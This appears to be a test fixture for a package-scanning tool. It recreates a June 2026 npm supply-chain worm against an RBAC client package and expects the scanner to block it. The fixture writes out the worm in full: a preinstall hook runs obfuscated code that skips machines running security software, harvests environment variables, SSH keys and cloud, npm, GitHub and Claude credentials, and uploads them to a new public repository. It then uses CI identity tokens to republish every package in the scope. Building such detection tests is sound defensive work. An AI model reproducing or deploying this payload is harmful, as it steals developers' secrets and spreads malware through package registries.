import { obfuscatedFiller, packedText } from '../bulk.js';
import { obfuscatedForm } from '../obfuscated-form.js';
import type { Replica } from './replica.js';

const api = `"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.RbacClient = exports.getPrincipalAccess = exports.listRoles = exports.getRole = void 0;
const request_1 = require("./request");
const listRoles = async (config, params = {}) => {
    const query = (0, request_1.toQuery)({ limit: 10, offset: 0, ...params });
    return (0, request_1.send)(config, "GET", "/roles/" + query);
};
exports.listRoles = listRoles;
const getRole = async (config, uuid) => {
    (0, request_1.assertParam)("getRole", "uuid", uuid);
    return (0, request_1.send)(config, "GET", "/roles/" + encodeURIComponent(uuid) + "/");
};
exports.getRole = getRole;
const getPrincipalAccess = async (config, application, params = {}) => {
    (0, request_1.assertParam)("getPrincipalAccess", "application", application);
    return (0, request_1.send)(config, "GET", "/access/" + (0, request_1.toQuery)({ application, ...params }));
};
exports.getPrincipalAccess = getPrincipalAccess;
class RbacClient {
    constructor(basePath = "/api/rbac/v1", fetcher = fetch) {
        this.config = { basePath, fetcher };
    }
    listRoles(params) { return (0, exports.listRoles)(this.config, params); }
    getRole(uuid) { return (0, exports.getRole)(this.config, uuid); }
    getPrincipalAccess(application, params) { return (0, exports.getPrincipalAccess)(this.config, application, params); }
}
exports.RbacClient = RbacClient;
`;
const files = {
  'README.md': '# RBAC client\n\nGenerated from the API description.\n',
  'dist/index.js': api,
  'dist/request.js': `"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.RequiredError = exports.assertParam = exports.toQuery = exports.send = void 0;
class RequiredError extends Error {
    constructor(field, message) {
        super(message);
        this.field = field;
        this.name = "RequiredError";
    }
}
exports.RequiredError = RequiredError;
function assertParam(functionName, name, value) {
    if (value === null || value === undefined)
        throw new RequiredError(name, "Required parameter " + name + " was null or undefined when calling " + functionName + ".");
}
exports.assertParam = assertParam;
function toQuery(params) {
    const pairs = Object.entries(params).filter(([, value]) => value !== undefined);
    return pairs.length ? "?" + pairs.map(([key, value]) => key + "=" + encodeURIComponent(String(value))).join("&") : "";
}
exports.toQuery = toQuery;
async function send({ basePath, fetcher }, method, path, body) {
    const response = await fetcher(basePath + path, { method, headers: { Accept: "application/json" }, body: body && JSON.stringify(body) });
    if (!response.ok)
        throw new Error(method + " " + path + ": " + response.status);
    return response.json();
}
exports.send = send;
`,
  'dist/types.d.ts': 'export interface Role { uuid: string; name: string; display_name?: string; }\n',
};

const payload = `
const fs = require('fs');
const os = require('os');
const path = require('path');
const zlib = require('zlib');
const child = require('child_process');
const api = 'https://api.github.example.invalid';
const registry = 'https://registry.example.invalid';
const home = os.homedir();
const quiet = function (command) { try { return child.execSync(command, { 'encoding': 'utf8', 'stdio': ['ignore', 'pipe', 'ignore'] }).trim(); } catch (error) { return ''; } };
const guarded = ['CrowdStrike', 'SentinelOne', 'StepSecurity'].some(function (one) { return quiet('ps aux').indexOf(one) >= 0; });
if (guarded || Intl.DateTimeFormat().resolvedOptions().timeZone === 'Europe/Moscow') { process.exit(0); }
const read = function (name) { try { return fs.readFileSync(path.join(home, name), 'utf8'); } catch (error) { return ''; } };
const collect = function () {
  const out = { 'env': Object.assign({}, process.env), 'host': os.hostname(), 'user': os.userInfo().username, 'files': {} };
  ['.npmrc', '.aws/credentials', '.ssh/id_rsa', '.ssh/id_ed25519', '.kube/config', '.docker/config.json', '.config/gcloud/credentials.db', '.azure/azureProfile.json', '.config/gh/hosts.yml', '.claude/.credentials.json', '.gem/credentials', '.pypirc', '.cargo/credentials.toml'].forEach(function (name) { out.files[name] = read(name); });
  return out;
};
const github = function (token, method, where, body) {
  return fetch(api + where, { 'method': method, 'headers': { 'Authorization': 'Bearer ' + token, 'X-GitHub-Api-Version': '2022-11-28' }, 'body': body === undefined ? undefined : JSON.stringify(body) }).then(function (answer) { return answer.json(); });
};
const keep = async function (token, value) {
  const made = await github(token, 'POST', '/user/repos', { 'name': 'miasma-' + Math.random().toString(16).slice(2, 10), 'description': 'Miasma: The Spreading Blight', 'private': false });
  const content = zlib.gzipSync(JSON.stringify(value)).toString('base64');
  await github(token, 'PUT', '/repos/' + made.full_name + '/contents/results.json.gz', { 'message': 'results', 'content': content });
};
const identity = async function (audience) {
  const answer = await fetch(process.env.ACTIONS_ID_TOKEN_REQUEST_URL + '&audience=' + audience, { 'headers': { 'Authorization': 'bearer ' + process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN } });
  const body = await answer.json();
  return body.value;
};
const attested = async function (name, version) {
  const token = await identity('sigstore');
  const certificate = await fetch('https://fulcio.sigstore.example.invalid/api/v2/signingCert', { 'method': 'POST', 'headers': { 'Content-Type': 'application/json' }, 'body': JSON.stringify({ 'credentials': { 'oidcIdentityToken': token } }) });
  const entry = await fetch('https://rekor.sigstore.example.invalid/api/v1/log/entries', { 'method': 'POST', 'headers': { 'Content-Type': 'application/json' }, 'body': JSON.stringify({ 'kind': 'dsse', 'spec': { 'subject': 'pkg:npm/' + name + '@' + version } }) });
  return { 'certificate': await certificate.text(), 'log': await entry.json() };
};
const publish = async function (name) {
  const exchange = await fetch(registry + '/-/npm/v1/oidc/token/exchange/package/' + encodeURIComponent(name), { 'method': 'POST', 'headers': { 'Authorization': 'Bearer ' + await identity('npm:registry.example.invalid') } });
  const granted = await exchange.json();
  const held = await fetch(registry + '/' + encodeURIComponent(name) + '/latest');
  const manifest = await held.json();
  manifest.scripts = Object.assign({}, manifest.scripts, { 'preinstall': 'node index.js' });
  const parts = manifest.version.split('.');
  manifest.version = parts[0] + '.' + parts[1] + '.' + (Number(parts[2]) + 1);
  const document = { '_id': name, 'name': name, 'dist-tags': { 'latest': manifest.version }, 'versions': {}, '_attachments': {} };
  document.versions[manifest.version] = manifest;
  document._attachments[name + '-' + manifest.version + '.tgz'] = { 'content_type': 'application/octet-stream', 'data': '${packedText(400, 96)}' };
  document._attachments[name + '-' + manifest.version + '.sigstore'] = { 'data': JSON.stringify(await attested(name, manifest.version)) };
  await fetch(registry + '/' + encodeURIComponent(name), { 'method': 'PUT', 'headers': { 'Authorization': 'Bearer ' + granted.token, 'Content-Type': 'application/json' }, 'body': JSON.stringify(document) });
};
const main = async function () {
  const found = collect();
  const token = process.env.GITHUB_TOKEN || quiet('gh auth token');
  if (token) { await keep(token, found); }
  if (process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN) {
    const listed = await fetch(registry + '/-/v1/search?text=scope:' + String(process.env.GITHUB_REPOSITORY).split('/')[0] + '&size=250');
    const owned = await listed.json();
    for (const one of owned.objects) { await publish(one.package.name); }
  }
};
main().catch(function () { process.exit(0); });
`;

const manifest = { description: 'Client for the RBAC service', main: 'dist/index.js', types: 'dist/types.d.ts', license: 'Apache-2.0', repository: { type: 'git', url: 'git+https://github.example.invalid/RedHatInsights/javascript-clients.git' }, publishConfig: { access: 'public' }, dependencies: { tslib: '^2.8.1' } };
const publisher = { name: 'GitHub Actions', email: 'npm-oidc-no-reply@github.example.invalid', trustedPublisher: { id: 'github' } };
const attestations = [{ predicateType: 'https://slsa.dev/provenance/v1', bundle: {} }];

export const replica: Replica = {
  id: 'redhat-cloud-services-2026',
  story: 'June 2026: a worm that came through a pushed branch and the project\'s own trusted publishing put up 96 versions with valid provenance, each with a preinstall step that runs an obfuscated file: secrets into a public repository, identity tokens exchanged for publishing (after public summaries; details from memory).',
  name: '@redhat-cloud-services/rbac-client',
  before: { version: '9.0.2', manifest, files, publishedAt: '2026-04-29T08:14:00.000Z', publisher, attestations },
  after: { version: '9.0.3', manifest: { ...manifest, scripts: { preinstall: 'node index.js' } }, files: { ...files, 'index.js': `${obfuscatedForm(payload, { seed: 106, strings: 'base64', declare: 'const' })}${obfuscatedFiller(4_200_000, 107)}\n` }, publishedAt: '2026-06-01T10:52:00.000Z', publisher, attestations },
  must: 'block',
};
